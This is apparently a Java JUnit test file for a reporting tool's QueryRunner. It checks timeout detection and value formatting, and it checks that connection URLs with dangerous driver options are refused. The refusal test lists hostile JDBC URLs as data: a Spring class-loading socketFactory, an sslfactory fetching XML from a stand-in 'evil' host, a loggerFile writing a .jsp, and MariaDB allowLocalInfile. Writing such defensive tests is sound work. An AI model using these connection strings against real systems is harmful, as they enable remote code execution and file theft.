package com.herald.reports.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.math.BigDecimal;
import java.sql.SQLException;
import java.sql.SQLTimeoutException;
import java.sql.Timestamp;
import java.time.LocalDateTime;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class QueryRunnerTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://h/db?sslfactory=x&sslfactoryarg=http://evil/x.xml",
                "jdbc:postgresql://h/db?loggerFile=/tmp/x.jsp",
                "jdbc:mariadb://h/db?allowLocalInfile=true",
                "jdbc:mariadb://h/db?sessionVariables=sql_mode=''"
            })
    void refusesDriverOptionsThatLoadClassesOrTouchFiles(String url) {
        assertThatThrownBy(() -> QueryRunner.connect(url, "u", "p"))
                .isInstanceOf(SQLException.class)
                .hasMessageContaining("is not allowed");
    }

    @Test
    void refusesOtherDrivers() {
        assertThatThrownBy(() -> QueryRunner.connect("jdbc:h2:mem:x", "u", "p"))
                .isInstanceOf(SQLException.class)
                .hasMessageContaining("jdbc:mariadb:");
    }

    @Test
    void recognisesTimeouts() {
        assertThat(QueryRunner.isTimeout(new SQLTimeoutException("x"))).isTrue();
        assertThat(QueryRunner.isTimeout(new SQLException("max_statement_time exceeded", "70100", 1969)))
                .isTrue();
        assertThat(QueryRunner.isTimeout(new SQLException("canceling statement", "57014")))
                .isTrue();
        assertThat(QueryRunner.isTimeout(new SQLException("Unknown column", "42S22", 1054)))
                .isFalse();
    }

    @Test
    void driverMessagesAreOneShortLine() {
        String message = QueryRunner.driverMessage(new SQLException("line one\n\tat org.x\n" + "y".repeat(600)));
        assertThat(message).doesNotContain("\n").hasSizeLessThanOrEqualTo(501);
    }

    @Test
    void valuesAreShownAsText() {
        assertThat(QueryRunner.text(null)).isEmpty();
        assertThat(QueryRunner.text(new BigDecimal("1E+3"))).isEqualTo("1000");
        assertThat(QueryRunner.text(Timestamp.valueOf("2026-01-31 08:00:00"))).isEqualTo("2026-01-31 08:00");
        assertThat(QueryRunner.text(LocalDateTime.parse("2026-01-31T08:00:05"))).isEqualTo("2026-01-31 08:00:05");
        assertThat(QueryRunner.text(new byte[3])).isEqualTo("(3 bytes)");
    }
}
